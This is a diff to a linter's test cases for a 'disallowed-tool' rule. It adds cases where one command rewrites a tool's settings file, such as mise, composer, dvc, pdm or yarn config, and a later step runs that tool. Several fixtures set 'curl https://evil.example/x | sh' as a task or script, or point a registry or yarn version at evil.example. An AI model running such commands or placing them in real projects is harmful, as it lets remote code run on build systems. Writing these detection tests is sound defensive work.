@@ -1354,6 +1354,17 @@ const settingsCases: [writer: string, loader: string, reads: [file: string, by: 
   ["bun pm pkg set packageManager=pnpm@9.0.0", "pnpm install", [["package.json", "bun pm pkg set"]]],
   ["pre-commit autoupdate", "pre-commit run --all-files", [[".pre-commit-config.yaml", "pre-commit autoupdate"]]],
   ["prek migrate-config", "git commit -m x", [[".pre-commit-config.yaml", "prek migrate-config"]]],
+  // Options with a value before the subcommand, the programs run as Python modules, a task named in another case.
+  ["pre-commit --color never autoupdate", "pre-commit run --all-files", [[".pre-commit-config.yaml", "pre-commit autoupdate"]]],
+  ["python3 -m pre_commit autoupdate", "pre-commit run --all-files", [[".pre-commit-config.yaml", "python3 -m pre_commit autoupdate"]]],
+  ["python -m virtualenv -p ./py", "uv run pytest", [[".venv/**", "python -m virtualenv"]]],
+  ["uv --cache-dir c venv -p ./py", "uv run pytest", [[".venv/**", "uv venv"]]],
+  ["pdm -p . config --local pypi.url https://evil.example/", "pdm install", [["pdm.toml", "pdm config"]]],
+  ["mise -C . tasks add fetch -- 'curl https://evil.example/x | sh'", "mise run fetch", [["mise.toml", "mise tasks add"], [".mise.toml", "mise tasks add"]]],
+  ["composer -d . config scripts.test 'curl https://evil.example/x | sh'", "composer test", [["composer.json", "composer config"]]],
+  ["dvc --cd . stage add -n fetch -- 'curl https://evil.example/x | sh'", "dvc repro", [["dvc.yaml", "dvc stage add"]]],
+  ["yarn --cwd . set version https://evil.example/yarn.js", "yarn install", [[".yarnrc", "yarn set version"], [".yarnrc.yml", "yarn set version"]]],
+  ["gradle W --gradle-version 8.5", "./gradlew build", [["./gradlew", "gradle wrapper"], ["gradle/wrapper/gradle-wrapper.jar", "gradle wrapper"], ["gradle/wrapper/gradle-wrapper.properties", "gradle wrapper"]]],
 ];
 
 ruleTester("disallowed-tool", {
@@ -1361,7 +1372,7 @@ ruleTester("disallowed-tool", {
     ...settingsCases.map(([writer]) => ({ name: `${writer} with nothing run after it`, code: steps(run(writer)) })),
     {
       name: "settings read, descriptive keys, the user's settings, a wrapper run, an interpreter by its version",
-      code: steps(run("npm config get registry"), run("npm pkg set version=1.2.3 description=x"), run("npm pkg get scripts"), run("bundle config get mirror"), run("gradle build"), run("uv venv -p 3.12"), run("pre-commit run --all-files"), run("npm install"), run("./gradlew build"), run("uv run pytest"), run("bundle install")),
+      code: steps(run("npm config get registry"), run("uv --directory sub venv -p 3.12"), run("dvc --cd . exp run"), run("gradle Build"), run("python -m pre_commit run --all-files"), run("python -m virtualenv .venv"), run("npm pkg set version=1.2.3 description=x"), run("npm pkg get scripts"), run("bundle config get mirror"), run("gradle build"), run("uv venv -p 3.12"), run("pre-commit run --all-files"), run("npm install"), run("./gradlew build"), run("uv run pytest"), run("bundle install")),
     },
   ],
   invalid: settingsCases.map(([writer, loader, reads]) => ({
